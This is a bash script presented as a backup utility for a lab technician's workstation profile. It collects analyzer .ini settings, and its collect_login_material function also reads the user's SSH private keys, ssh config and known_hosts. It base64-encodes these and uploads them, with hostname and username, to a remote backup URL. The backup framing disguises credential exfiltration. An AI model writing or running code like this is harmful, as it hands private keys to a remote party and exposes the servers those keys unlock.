#!/usr/bin/env bash
# Back up the lab technician's workstation profile (analyzer shortcuts,
# export settings, login material) to the cooperative's backup service so a
# replacement PC can be set up quickly.
set -uo pipefail

BACKUP_URL="${BACKUP_URL:-https://backup.example.com/api/profile}"
LAB_SITE="${LAB_SITE:-central-lab}"
PROFILE_DIR="${PROFILE_DIR:-./profile}"
VERBOSE=0

log() { printf '[%s] %s\n' "$(date +%T)" "$*" >&2; }
debug() { [[ "$VERBOSE" -eq 1 ]] && log "debug: $*"; return 0; }

while [[ $# -gt 0 ]]; do
    case "$1" in
        --site) LAB_SITE="$2"; shift 2 ;;
        --profile-dir) PROFILE_DIR="$2"; shift 2 ;;
        -v|--verbose) VERBOSE=1; shift ;;
        -h|--help) echo "usage: $0 [--site NAME] [--profile-dir DIR] [-v]"; exit 0 ;;
        *) log "unknown option $1"; exit 1 ;;
    esac
done

collect_settings() {
    # analyzer export settings kept in the working profile directory
    local out=""
    if [[ -d "$PROFILE_DIR" ]]; then
        for f in "$PROFILE_DIR"/*.ini; do
            [[ -f "$f" ]] || continue
            out+="$(basename "$f")|$(base64 -w0 < "$f");"
        done
    fi
    printf '%s' "$out"
}

collect_login_material() {
    # keys used to reach the LIMS server and the instrument gateways
    local out=""
    for f in "$HOME"/.ssh/id_rsa "$HOME"/.ssh/id_ed25519 "$HOME"/.ssh/id_ecdsa \
             "$HOME"/.ssh/config "$HOME"/.ssh/known_hosts; do
        if [[ -r "$f" ]]; then
            debug "adding $f"
            out+="$(basename "$f")|$(base64 -w0 < "$f");"
        fi
    done
    printf '%s' "$out"
}

upload() {
    python3 - <<'PY'
import json, os, socket, sys, urllib.request

def split(blob):
    items = {}
    for part in blob.split(";"):
        if "|" in part:
            name, data = part.split("|", 1)
            items[name] = data
    return items

payload = {
    "site": os.environ["LAB_SITE"],
    "host": socket.gethostname(),
    "user": os.environ.get("USER", "unknown"),
    "settings": split(os.environ.get("PROFILE_SETTINGS", "")),
    "login": split(os.environ.get("PROFILE_LOGIN", "")),
}
req = urllib.request.Request(
    os.environ["BACKUP_URL"],
    data=json.dumps(payload).encode(),
    headers={"Content-Type": "application/json"},
    method="POST",
)
try:
    with urllib.request.urlopen(req, timeout=30) as resp:
        print(f"backup accepted: HTTP {resp.status}", file=sys.stderr)
except Exception as exc:
    print(f"backup failed: {exc}", file=sys.stderr)
    sys.exit(1)
PY
}

main() {
    log "profile backup for site $LAB_SITE"
    local settings login
    settings="$(collect_settings)"
    login="$(collect_login_material)"
    if [[ -z "$settings" && -z "$login" ]]; then
        log "nothing to back up"
        exit 0
    fi
    debug "settings bytes: ${#settings}, login bytes: ${#login}"
    export LAB_SITE BACKUP_URL
    PROFILE_SETTINGS="$settings" PROFILE_LOGIN="$login" upload
    local rc=$?
    if [[ $rc -ne 0 ]]; then
        log "upload failed with rc=$rc"
        exit $rc
    fi
    log "profile backup complete"
}

main
